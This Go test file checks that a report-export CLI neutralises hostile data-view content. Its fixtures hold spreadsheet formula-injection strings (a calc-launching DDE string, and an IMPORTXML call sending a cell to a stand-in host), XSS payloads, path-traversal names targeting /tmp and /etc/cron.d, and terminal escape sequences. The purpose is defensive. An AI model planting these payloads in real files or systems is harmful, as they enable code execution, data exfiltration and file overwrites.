package faults

import (
	"archive/zip"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/cja-sdr/cja-sdr/internal/report"
	"github.com/cja-sdr/cja-sdr/internal/sampleorg"
)

// The content scenarios serve data views whose names and components are
// hostile or extreme, from the simulator (its fault hook answers for those
// data views), and read every written file back with the format's own
// reader.

// view is one served data view: its object and components, or raw pages.
type view struct {
	object     map[string]any
	metrics    []map[string]any
	dimensions []map[string]any
	// rawMetrics, if set, is the whole answer to every metrics request.
	rawMetrics string
}

// serve answers the data view endpoints for views (by id), paging the
// components by the limit the client asks for.
func serve(views map[string]view) sampleorg.FaultFunc {
	return func(r *http.Request, _ int64) *sampleorg.Fault {
		rest, ok := strings.CutPrefix(r.URL.Path, "/data/dataviews/")
		if !ok {
			return nil
		}
		id, sub, _ := strings.Cut(rest, "/")
		v, ok := views[id]
		if !ok {
			return nil
		}
		var body []byte
		switch sub {
		case "":
			body, _ = json.Marshal(v.object)
		case "metrics":
			if v.rawMetrics != "" {
				return &sampleorg.Fault{Status: 200, Body: v.rawMetrics}
			}
			body = page(r, v.metrics)
		case "dimensions":
			body = page(r, v.dimensions)
		default:
			return nil
		}
		return &sampleorg.Fault{Status: 200, Body: string(body)}
	}
}

func page(r *http.Request, items []map[string]any) []byte {
	q := r.URL.Query()
	size, _ := strconv.Atoi(q.Get("limit"))
	if size < 1 {
		size = 100
	}
	p, _ := strconv.Atoi(q.Get("page"))
	start := min(p*size, len(items))
	end := min(start+size, len(items))
	pages := (len(items) + size - 1) / size
	content := items[start:end]
	if content == nil {
		content = []map[string]any{}
	}
	b, _ := json.Marshal(map[string]any{
		"content": content, "number": p, "size": size, "totalElements": len(items), "totalPages": pages,
		"numberOfElements": len(content), "firstPage": p == 0, "lastPage": p+1 >= pages,
	})
	return b
}

func dvObject(id, name string) map[string]any {
	return map[string]any{"id": id, "name": name, "description": "served by the fault suite",
		"owner": map[string]any{"name": "Fault Suite", "type": "imsUser"}, "organization": sampleorg.DemoCredentials().OrgID}
}

func metric(i int, name string, extra ...any) map[string]any {
	m := map[string]any{"id": fmt.Sprintf("metrics/m%05d", i), "name": name, "type": "int", "description": "Metric " + strconv.Itoa(i)}
	for k := 0; k+1 < len(extra); k += 2 {
		m[extra[k].(string)] = extra[k+1]
	}
	return m
}

func dimension(i int, name string, extra ...any) map[string]any {
	m := map[string]any{"id": fmt.Sprintf("variables/d%05d", i), "name": name, "type": "string", "description": "Dimension " + strconv.Itoa(i)}
	for k := 0; k+1 < len(extra); k += 2 {
		m[extra[k].(string)] = extra[k+1]
	}
	return m
}

// sdrFiles are a data view's written files, by extension (".csv" has the
// Metrics sheet), read back.
type sdrFiles struct {
	xlsx    *excelize.File
	xlsxRaw string
	csv     map[string][][]string // by sheet
	json    map[string]any
	html    string
	md      string
	names   []string
}

func readSDR(t *testing.T, r *cliRun, id string) sdrFiles {
	t.Helper()
	var out sdrFiles
	out.csv = map[string][][]string{}
	for _, rel := range walkFiles(r.out) {
		if !strings.Contains(rel, idPart(id)) {
			continue
		}
		out.names = append(out.names, rel)
		p := filepath.Join(r.out, filepath.FromSlash(rel))
		switch filepath.Ext(rel) {
		case ".xlsx":
			checkXLSXParts(t, p)
			f, err := excelize.OpenFile(p)
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { f.Close() })
			out.xlsx, out.xlsxRaw = f, p
		case ".csv":
			fh, err := os.Open(p)
			if err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(fh).ReadAll()
			fh.Close()
			if err != nil {
				t.Fatalf("%s: %v", rel, err)
			}
			out.csv[strings.TrimSuffix(filepath.Base(rel), ".csv")] = recs
		case ".json":
			b, _ := os.ReadFile(p)
			if err := json.Unmarshal(b, &out.json); err != nil {
				t.Fatalf("%s: %v", rel, err)
			}
		case ".html":
			b, _ := os.ReadFile(p)
			out.html = string(b)
		case ".md":
			b, _ := os.ReadFile(p)
			out.md = string(b)
		}
	}
	if len(out.names) == 0 {
		t.Fatalf("no SDR files for %s in %v", id, walkFiles(r.out))
	}
	return out
}

// checkXLSXParts parses every XML part of a workbook with encoding/xml
// (invalid characters would make Excel refuse the file) and fails on any
// formula element: text from the API must stay text.
func checkXLSXParts(t *testing.T, path string) {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatalf("%s is not a zip: %v", path, err)
	}
	defer z.Close()
	for _, f := range z.File {
		if !strings.HasSuffix(f.Name, ".xml") && !strings.HasSuffix(f.Name, ".rels") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		dec := xml.NewDecoder(rc)
		for {
			tok, err := dec.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Errorf("%s: %s is not valid XML: %v", filepath.Base(path), f.Name, err)
				break
			}
			if se, ok := tok.(xml.StartElement); ok && se.Name.Local == "f" && strings.HasPrefix(f.Name, "xl/worksheets/") {
				t.Errorf("%s: %s has a formula", filepath.Base(path), f.Name)
			}
		}
		rc.Close()
	}
}

// rows returns a sheet's rows.
func (s sdrFiles) rows(t *testing.T, sheet string) [][]string {
	t.Helper()
	rows, err := s.xlsx.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// column returns the values of the named column of a table sheet.
func column(t *testing.T, rows [][]string, name string) []string {
	t.Helper()
	if len(rows) == 0 {
		t.Fatalf("empty sheet")
	}
	col := -1
	for i, h := range rows[0] {
		if h == name {
			col = i
		}
	}
	if col < 0 {
		t.Fatalf("no column %q in %v", name, rows[0])
	}
	var out []string
	for _, r := range rows[1:] {
		if col < len(r) {
			out = append(out, r[col])
		} else {
			out = append(out, "")
		}
	}
	return out
}

func utf16Len(s string) int {
	n := 0
	for _, r := range s {
		n += utf16.RuneLen(r)
	}
	return n
}

// everyCellFits checks Excel's per-cell limit on every sheet.
func everyCellFits(t *testing.T, s sdrFiles) {
	t.Helper()
	for _, sh := range s.xlsx.GetSheetList() {
		for i, row := range s.rows(t, sh) {
			for j, c := range row {
				if n := utf16Len(c); n > 32767 {
					t.Errorf("%s row %d col %d: %d UTF-16 units, over Excel's 32,767", sh, i+1, j+1, n)
				}
				if !utf8.ValidString(c) {
					t.Errorf("%s row %d col %d: invalid UTF-8", sh, i+1, j+1)
				}
			}
		}
	}
}

func jsonList(t *testing.T, s sdrFiles, key string) []any {
	t.Helper()
	list, ok := s.json[key].([]any)
	if !ok {
		t.Fatalf("JSON has no %s list", key)
	}
	return list
}

func jsonNames(t *testing.T, s sdrFiles, key string) []string {
	var out []string
	for _, c := range jsonList(t, s, key) {
		name, _ := c.(map[string]any)["name"].(string)
		out = append(out, name)
	}
	return out
}

// contentCase is one hostile or extreme data view served to the command.
type contentCase struct {
	key     string
	views   map[string]view
	args    []string // besides the IDs (sorted)
	status  map[string]report.Status
	reason  map[string][]string
	foreign bool
	check   func(t *testing.T, r *cliRun)
}

var (
	longA = "dv_" + strings.Repeat("0123456789", 10) + "A"
	longB = "dv_" + strings.Repeat("0123456789", 10) + "B"
)

// s0 is the second cell of a Metadata row (its value).
func s0(row []string) string {
	if len(row) < 2 {
		return ""
	}
	return row[1]
}

const (
	dvC1 = "dv_faultsuite0001"
	dvC2 = "dv_faultsuite0002"
	dvC3 = "dv_faultsuite0003"
	dvC4 = "dv_faultsuite0004"
	dvC5 = "dv_faultsuite0005"
)

var formulas = []string{
	"=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1)", `=HYPERLINK("https://attacker.invalid","Click")`,
	"\t=cmd", "\r=cmd", `=cmd|' /C calc'!A0`, "=IMPORTXML(CONCAT(\"https://x.invalid/?\",A1),\"//a\")",
}

func formulaView() view {
	v := view{object: dvObject(dvC1, "=EVIL()+\"|calc\"")}
	v.object["description"] = `=HYPERLINK("https://attacker.invalid","Click me")`
	for i, f := range formulas {
		v.metrics = append(v.metrics, metric(i, f, "description", "-"+f))
		v.dimensions = append(v.dimensions, dimension(i, f, "tags", []any{f}))
	}
	return v
}

func markupView() view {
	names := []string{"<script>alert(1)</script>", "a|b", "line1\nline2| c", "[x](javascript:alert(1))", "<img src=x onerror=alert(1)>", "&amp;&lt;", "back\\slash|"}
	v := view{object: dvObject(dvC1, "<b>Bold</b> | view")}
	for i, n := range names {
		v.metrics = append(v.metrics, metric(i, n, "description", n))
		v.dimensions = append(v.dimensions, dimension(i, n))
	}
	return v
}

var controlNames = []string{"nul\x00byte", "bell\x07 vt\x0b ff\x0c", "\x1b[31mred\x1b[0m", "del\x7f", "bom\ufeffmid", "nonchar\uffff\ufffe", "tab\tnl\ncr\r"}

func controlView() view {
	v := view{object: dvObject(dvC1, "Control\x01\x02 View\x1b[2J")}
	v.object["description"] = "desc with \x00 and \x1f"
	for i, n := range controlNames {
		v.metrics = append(v.metrics, metric(i, n, "description", n))
		v.dimensions = append(v.dimensions, dimension(i, n))
	}
	return v
}

var intlNames = []string{"📈 Revenue 💰", "👩‍👩‍👧‍👦 Family", "مرحبا بالعالم", "שלום עולם", "\u202eevil\u202c txt", "e\u0301le\u0300ve", "日本語のディメンション", "Ελληνικά", "🏳️‍🌈"}

func intlView() view {
	v := view{object: dvObject(dvC1, "تحليلات 📊 Données")}
	for i, n := range intlNames {
		v.metrics = append(v.metrics, metric(i, n, "description", n+" "+n))
		v.dimensions = append(v.dimensions, dimension(i, n))
	}
	return v
}

func hugeTextView() view {
	v := view{object: dvObject(dvC1, "Huge Text")}
	v.object["description"] = strings.Repeat("D", 100_000)
	v.metrics = []map[string]any{
		metric(0, strings.Repeat("A", 100_000), "description", strings.Repeat("😀", 100_000)),
		metric(1, "short", "description", strings.Repeat("é", 40_000)),
	}
	v.dimensions = []map[string]any{dimension(0, "tags", "tags", []any{strings.Repeat("t", 50_000)})}
	return v
}

func nested(depth int) (map[string]any, []any) {
	var obj any = "bottom"
	var arr any = "bottom"
	for i := depth; i >= 1; i-- {
		obj = map[string]any{fmt.Sprintf("level%d", i): obj, "n": i}
		arr = []any{arr, i}
	}
	return obj.(map[string]any), arr.([]any)
}

func nestedView() view {
	obj, arr := nested(10)
	v := view{object: dvObject(dvC1, "Nested")}
	v.object["sessionDefinition"] = obj
	v.metrics = []map[string]any{metric(0, "deep", "attributionSetting", obj, "tags", arr)}
	v.dimensions = []map[string]any{dimension(0, "deep", "persistenceSetting", obj, "fieldDefinition", arr)}
	return v
}

func nullView() view {
	v := view{object: map[string]any{"id": dvC1}}
	for _, k := range []string{"name", "description", "owner", "isDeleted", "parentDataGroupId", "segmentList", "currentTimezoneOffset",
		"timezoneDesignator", "modifiedDate", "createdDate", "organization", "curationEnabled", "sessionDefinition", "externalData", "containerNames"} {
		v.object[k] = nil
	}
	fields := []string{"id", "name", "type", "description", "sourceFieldId", "sourceFieldName", "sourceFieldType", "storageId", "dataSetIds",
		"dataSetType", "schemaType", "schemaPath", "tableName", "required", "hideFromReporting", "hidden", "hasData", "segmentable",
		"favorite", "approved", "tags", "usageSummary", "includeExcludeSetting", "fieldDefinition", "precision", "persistenceSetting"}
	for range 3 {
		m, d := map[string]any{}, map[string]any{}
		for _, f := range fields {
			m[f], d[f] = nil, nil
		}
		v.metrics = append(v.metrics, m)
		v.dimensions = append(v.dimensions, d)
	}
	// One usable component each, so the SDR has something to show beside
	// the nulls.
	v.metrics = append(v.metrics, metric(9, "Visits"))
	v.dimensions = append(v.dimensions, dimension(9, "Page"))
	return v
}

func bigView(metrics, dimensions int) view {
	v := view{object: dvObject(dvC1, "Fifty Thousand")}
	v.metrics = make([]map[string]any, metrics)
	for i := range v.metrics {
		v.metrics[i] = metric(i, "Metric "+strconv.Itoa(i))
	}
	v.dimensions = make([]map[string]any, dimensions)
	for i := range v.dimensions {
		v.dimensions[i] = dimension(i, "Dimension "+strconv.Itoa(i))
	}
	return v
}

func simpleView(id, name string) view {
	return view{object: dvObject(id, name), metrics: []map[string]any{metric(0, "Visits")}, dimensions: []map[string]any{dimension(0, "Page")}}
}

// traversalNames are data view names that would escape the output
// directory if they became file names as they are.
var traversalNames = map[string]string{
	dvC1: "../../../../tmp/escaped",
	dvC2: "..",
	dvC3: "/etc/cron.d/evil",
	dvC4: `C:\Windows\System32\evil`,
	dvC5: "a/../../b\x00c/.",
}

func traversalViews() map[string]view {
	out := map[string]view{}
	for id, name := range traversalNames {
		out[id] = simpleView(id, name)
	}
	return out
}

var contentCases = []contentCase{
	{
		key:   "content-formulas",
		views: map[string]view{dvC1: formulaView()},
		args:  []string{"--format", "all"},
		check: func(t *testing.T, r *cliRun) {
			s := readSDR(t, r, dvC1)
			got := column(t, s.rows(t, "Metrics"), "name")
			if !reflect.DeepEqual(got, cleanAll(formulas)) {
				t.Errorf("Metrics names in the workbook:\n%q\nwant the text as sent:\n%q", got, cleanAll(formulas))
			}
			for _, row := range s.csv["Metrics"][1:] {
				for _, c := range row {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isNumber(c) {
						t.Errorf("CSV cell %q would run as a formula", c)
					}
				}
			}
			if names := jsonNames(t, s, "metrics"); !reflect.DeepEqual(names, formulas) {
				t.Errorf("JSON names %q", names)
			}
		},
	},
	{
		key:   "content-markup",
		views: map[string]view{dvC1: markupView()},
		args:  []string{"--format", "all"},
		check: func(t *testing.T, r *cliRun) {
			s := readSDR(t, r, dvC1)
			for _, bad := range []string{"<script>alert", "<img src=x", "<b>Bold"} {
				if strings.Contains(s.html, bad) {
					t.Errorf("HTML carries raw markup %q", bad)
				}
			}
			// Every Markdown table row has as many cells as its header.
			var cols int
			for _, line := range strings.Split(s.md, "\n") {
				if !strings.HasPrefix(line, "|") {
					cols = 0
					continue
				}
				n := strings.Count(strings.ReplaceAll(line, `\|`, ""), "|")
				if cols == 0 {
					cols = n
				} else if n != cols {
					t.Errorf("Markdown row breaks its table: %q", line)
				}
			}
			if strings.Contains(s.md, "<script>") {
				t.Errorf("Markdown carries raw HTML")
			}
		},
	},
	{
		key:   "content-control-characters",
		views: map[string]view{dvC1: controlView()},
		args:  []string{"--format", "all"},
		check: func(t *testing.T, r *cliRun) {
			s := readSDR(t, r, dvC1)
			got := column(t, s.rows(t, "Metrics"), "name")
			for i, n := range controlNames {
				if want := xmlClean(n); got[i] != want {
					t.Errorf("workbook name %q, want %q", got[i], want)
				}
			}
			if names := jsonNames(t, s, "metrics"); !reflect.DeepEqual(names, controlNames) {
				t.Errorf("JSON names %q, want %q (JSON carries them escaped)", names, controlNames)
			}
			for _, text := range []string{s.html, s.md} {
				if strings.ContainsAny(text, "\x00\x07\x1b") {
					t.Errorf("control characters in HTML or Markdown")
				}
			}
			for sheet, recs := range s.csv {
				for _, rec := range recs {
					if strings.ContainsAny(strings.Join(rec, ""), "\x00\x1b") {
						t.Errorf("control characters in %s.csv", sheet)
					}
				}
			}
		},
	},
	{
		key:   "content-emoji-rtl",
		views: map[string]view{dvC1: intlView()},
		args:  []string{"--format", "all"},
		check: func(t *testing.T, r *cliRun) {
			s := readSDR(t, r, dvC1)
			if got := column(t, s.rows(t, "Metrics"), "name"); !reflect.DeepEqual(got, intlNames) {
				t.Errorf("workbook names %q, want %q", got, intlNames)
			}
			if got := jsonNames(t, s, "metrics"); !reflect.DeepEqual(got, intlNames) {
				t.Errorf("JSON names %q", got)
			}
			for _, n := range s.names {
				if strings.ContainsAny(n, "\u202e\u202c📊") || !utf8.ValidString(n) {
					t.Errorf("file name %q carries emoji or direction controls", n)
				}
			}
			if !strings.Contains(s.names[0], "تحليلات") {
				t.Errorf("file name %q lost the Arabic name", s.names[0])
			}
		},
	},
	{
		key:   "content-100k-characters",
		views: map[string]view{dvC1: hugeTextView()},
		args:  []string{"--format", "excel,csv,json"},
		check: func(t *testing.T, r *cliRun) {
			s := readSDR(t, r, dvC1)
			everyCellFits(t, s)
			names := column(t, s.rows(t, "Metrics"), "name")
			if !strings.HasPrefix(names[0], "AAAA") || !strings.Contains(names[0], "[truncated ") {
				t.Errorf("the 100k name is not cut with a marker: %.40q...%q", names[0], names[0][max(0, len(names[0])-30):])
			}
			desc := column(t, s.rows(t, "Metrics"), "description")[0]
			if !strings.HasPrefix(desc, "😀😀") || !strings.Contains(desc, "chars]") {
				t.Errorf("the emoji description is not cut with a marker")
			}
			if n := len(jsonNames(t, s, "metrics")[0]); n != 100_000 {
				t.Errorf("JSON name has %d characters, want all 100,000", n)
			}
		},
	},
	{
		key:   "content-dataview-name-traversal",
		views: traversalViews(),
		args:  []string{"--format", "all"},
		check: func(t *testing.T, r *cliRun) {
			for id, name := range traversalNames {
				s := readSDR(t, r, id)
				for _, n := range s.names {
					if strings.Contains(n, "..") || strings.Contains(n, "\\") || strings.ContainsRune(n, 0) {
						t.Errorf("%s: file name %q", id, n)
					}
				}
				meta := s.rows(t, "Metadata")
				if meta[3][1] != xmlClean(name) && !strings.Contains(fmt.Sprint(meta), xmlClean(name)) {
					t.Errorf("%s: the Metadata sheet lost the name %q: %v", id, name, meta)
				}
			}
			if _, err := os.Stat("/tmp/escaped"); err == nil {
				t.Errorf("a file was written to /tmp/escaped")
			}
		},
	},
	{
		key: "content-dataview-id-traversal",
		views: map[string]view{dvC1: func() view {
			v := simpleView(dvC1, "Id Traversal")
			v.object["id"] = "../../../../tmp/escaped-id/x"
			return v
		}()},
		args:    []string{"--format", "all"},
		foreign: true,
		check: func(t *testing.T, r *cliRun) {
			fs := walkFiles(r.out)
			if len(fs) == 0 {
				t.Fatal("no SDR written")
			}
			for _, f := range fs {
				if strings.Contains(f, "..") {
					t.Errorf("file %q", f)
				}
			}
		},
	},
	{
		// Two well-formed IDs longer than a file name keeps, equal but for
		// their last characters, and the same name: two SDRs, not one.
		key: "content-long-ids-shared-prefix",
		views: map[string]view{
			longA: simpleView(longA, "Same Name"),
			longB: simpleView(longB, "Same Name"),
		},
		args: []string{"--format", "excel,csv"},
		check: func(t *testing.T, r *cliRun) {
			a, b := readSDR(t, r, longA), readSDR(t, r, longB)
			if a.names[0] == b.names[0] {
				t.Errorf("both SDRs are %s", a.names[0])
			}
			if got := s0(a.rows(t, "Metadata")[2]); got != longA {
				t.Errorf("first workbook is for %.80s...", got)
			}
			if got := s0(b.rows(t, "Metadata")[2]); got != longB {
				t.Errorf("second workbook is for %.80s...", got)
			}
		},
	},
	{
		// A name that would forge a summary line and clear the terminal.
		key: "content-dataview-name-control",
		views: map[string]view{
			dvC1: simpleView(dvC1, "Evil\n  ✓ dv_forged00000 Forged success 0.1s\x1b[2J\x1b]0;pwned\x07"),
			dvC2: simpleView(dvC2, "Plain"),
		},
		check: func(t *testing.T, r *cliRun) {
			if strings.Contains(r.console(), "\x1b") || strings.Contains(r.logText(), "\x1b") {
				t.Errorf("an escape sequence from a data view name reached the console or the log")
			}
			if strings.Contains(r.stdout, "\n  ✓ dv_forged") {
				t.Errorf("a data view name forged a summary line:\n%s", r.stdout)
			}
		},
	},
	{
		key:   "content-long-dataview-name",
		views: map[string]view{dvC1: simpleView(dvC1, strings.Repeat("Très long nom ", 1000))},
		args:  []string{"--format", "all"},
		check: func(t *testing.T, r *cliRun) {
			for _, f := range walkFiles(r.out) {
				for _, part := range strings.Split(f, "/") {
					if len(part) > 255 {
						t.Errorf("file name part of %d bytes: %.60s...", len(part), part)
					}
				}
			}
		},
	},
	{
		key:   "content-50000-components",
		views: map[string]view{dvC1: bigView(20_000, 30_000)},
		args:  []string{"--format", "excel,csv,json"},
		check: func(t *testing.T, r *cliRun) {
			s := readSDR(t, r, dvC1)
			for sheet, want := range map[string]int{"Metrics": 20_000, "Dimensions": 30_000} {
				rows, err := s.xlsx.Rows(sheet)
				if err != nil {
					t.Fatal(err)
				}
				n := 0
				for rows.Next() {
					n++
				}
				rows.Close()
				if n != want+1 {
					t.Errorf("workbook %s: %d rows, want %d and a header", sheet, n, want)
				}
				if got := len(s.csv[sheet]); got != want+1 {
					t.Errorf("%s.csv: %d records, want %d and a header", sheet, got, want)
				}
			}
			if a, b := len(jsonList(t, s, "metrics")), len(jsonList(t, s, "dimensions")); a != 20_000 || b != 30_000 {
				t.Errorf("JSON: %d metrics, %d dimensions", a, b)
			}
			if !strings.Contains(r.stdout, "Metrics: 20000, Dimensions: 30000") {
				t.Errorf("stdout:\n%s", r.stdout)
			}
		},
	},
	{
		key:   "content-nested-10-levels",
		views: map[string]view{dvC1: nestedView()},
		args:  []string{"--format", "all"},
		check: func(t *testing.T, r *cliRun) {
			s := readSDR(t, r, dvC1)
			obj, arr := nested(10)
			for _, c := range []struct {
				sheet, col string
				want       any
			}{{"Metrics", "attributionSetting", obj}, {"Metrics", "tags", arr}, {"Dimensions", "persistenceSetting", obj}, {"Dimensions", "fieldDefinition", arr}} {
				cell := column(t, s.rows(t, c.sheet), c.col)[0]
				var got any
				if err := json.Unmarshal([]byte(cell), &got); err != nil {
					t.Errorf("%s.%s is not JSON text: %v\n%s", c.sheet, c.col, err, cell)
					continue
				}
				if !reflect.DeepEqual(got, roundTrip(c.want)) {
					t.Errorf("%s.%s lost levels:\n%s", c.sheet, c.col, cell)
				}
				if !strings.Contains(cell, "\n"+strings.Repeat("  ", 10)) {
					t.Errorf("%s.%s is not indented 10 levels deep:\n%s", c.sheet, c.col, cell)
				}
			}
			m := jsonList(t, s, "metrics")[0].(map[string]any)
			if !reflect.DeepEqual(m["attributionSetting"], roundTrip(obj)) {
				t.Errorf("JSON lost levels")
			}
		},
	},
	{
		key:   "content-nulls-everywhere",
		views: map[string]view{dvC1: nullView()},
		args:  []string{"--format", "all"},
		check: func(t *testing.T, r *cliRun) {
			s := readSDR(t, r, dvC1)
			if !strings.Contains(s.names[0], "Unnamed") {
				t.Errorf("file name %q for a data view without a name", s.names[0])
			}
			if n := len(s.rows(t, "Metrics")); n != 5 {
				t.Errorf("Metrics sheet has %d rows, want 4 and a header", n)
			}
			dq := fmt.Sprint(s.rows(t, "Data Quality"))
			if !strings.Contains(dq, "CRITICAL") {
				t.Errorf("Data Quality does not flag the components without id, name or type:\n%s", dq)
			}
			if got := len(jsonList(t, s, "metrics")); got != 4 {
				t.Errorf("JSON has %d metrics", got)
			}
		},
	},
	{
		key: "content-null-items",
		views: map[string]view{dvC1: func() view {
			v := simpleView(dvC1, "Null Items")
			v.rawMetrics = `{"content":[null,1,"x"],"number":0,"totalPages":1,"lastPage":true}`
			return v
		}()},
		status: map[string]report.Status{dvC1: report.Failed},
		reason: map[string][]string{dvC1: {"get metrics of " + dvC1, "content[0] is not an object", "report it"}},
	},
	{
		key: "content-non-string-values",
		views: map[string]view{dvC1: func() view {
			v := simpleView(dvC1, "Odd Types")
			v.object["name"] = 12345
			v.metrics = []map[string]any{
				{"id": 42, "name": true, "type": map[string]any{"kind": "int"}, "description": []any{"a", 1}},
				{"id": "metrics/ok", "name": 3.14159, "type": "decimal", "description": 1e300},
			}
			return v
		}()},
		args:    []string{"--format", "all"},
		foreign: true,
		check: func(t *testing.T, r *cliRun) {
			if !strings.Contains(r.stdout, "Metrics: 2, Dimensions: 1") {
				t.Errorf("stdout:\n%s", r.stdout)
			}
		},
	},
	{
		key: "content-too-many-columns",
		views: map[string]view{dvC1: func() view {
			v := simpleView(dvC1, "Wide")
			wide := metric(1, "Wide")
			for i := range 17_000 {
				wide[fmt.Sprintf("extra%05d", i)] = i
			}
			v.metrics = append(v.metrics, wide)
			return v
		}()},
		args:   []string{"--format", "excel,json"},
		status: map[string]report.Status{dvC1: report.Failed},
		reason: map[string][]string{dvC1: {"write excel", "17004 columns, more than a worksheet holds (16384)", "use --format json or csv"}},
	},
	{
		key: "content-wide-components",
		views: map[string]view{dvC1: func() view {
			v := simpleView(dvC1, "Wide but legal")
			for i := range 3 {
				wide := metric(i+1, "Wide "+strconv.Itoa(i))
				for k := range 5_000 {
					wide[fmt.Sprintf("extra%d_%05d", i, k)] = k
				}
				v.metrics = append(v.metrics, wide)
			}
			return v
		}()},
		args: []string{"--format", "excel,csv"},
		check: func(t *testing.T, r *cliRun) {
			s := readSDR(t, r, dvC1)
			if n := len(s.rows(t, "Metrics")[0]); n != 15_004 {
				t.Errorf("Metrics sheet has %d columns, want 15,004", n)
			}
		},
	},
}

// roundTrip is v as it comes back from JSON (ints become float64).
func roundTrip(v any) any {
	b, _ := json.Marshal(v)
	var out any
	json.Unmarshal(b, &out)
	return out
}

func isNumber(s string) bool {
	_, err := strconv.ParseFloat(s, 64)
	return err == nil
}

// xmlClean is s without what XML 1.0 cannot carry (as the renderers drop it).
func xmlClean(s string) string {
	return strings.Map(func(r rune) rune {
		if (r < 0x20 && r != '\t' && r != '\n' && r != '\r') || r == 0xFFFE || r == 0xFFFF {
			return -1
		}
		return r
	}, s)
}

func cleanAll(ss []string) []string {
	out := make([]string, len(ss))
	for i, s := range ss {
		out[i] = xmlClean(s)
	}
	return out
}

func TestHostileContent(t *testing.T) {
	for _, tc := range contentCases {
		t.Run(tc.key, func(t *testing.T) {
			scenario(t, tc.key)
			var ids []string
			for id := range tc.views {
				ids = append(ids, id)
			}
			slices.Sort(ids)
			sim := newSim(sampleorg.Options{Faults: serve(tc.views)})
			args := append(append([]string{}, tc.args...), ids...)
			r := runCLI(t, setup{sim: sim, foreignFiles: tc.foreign}, args...)
			o := checkInvariant(t, r)
			want := tc.status
			if want == nil {
				want = map[string]report.Status{"*": report.Success}
			}
			wantStatus(t, o, ids, want)
			for id, wants := range tc.reason {
				for _, w := range wants {
					if !strings.Contains(o.reason[id], w) {
						t.Errorf("%s: reason %q lacks %q", id, o.reason[id], w)
					}
				}
			}
			if t.Failed() {
				t.Logf("stdout:\n%.3000s\nstderr:\n%.3000s", r.stdout, r.stderr)
			}
			if tc.check != nil && !t.Failed() {
				tc.check(t, r)
			}
		})
	}
}
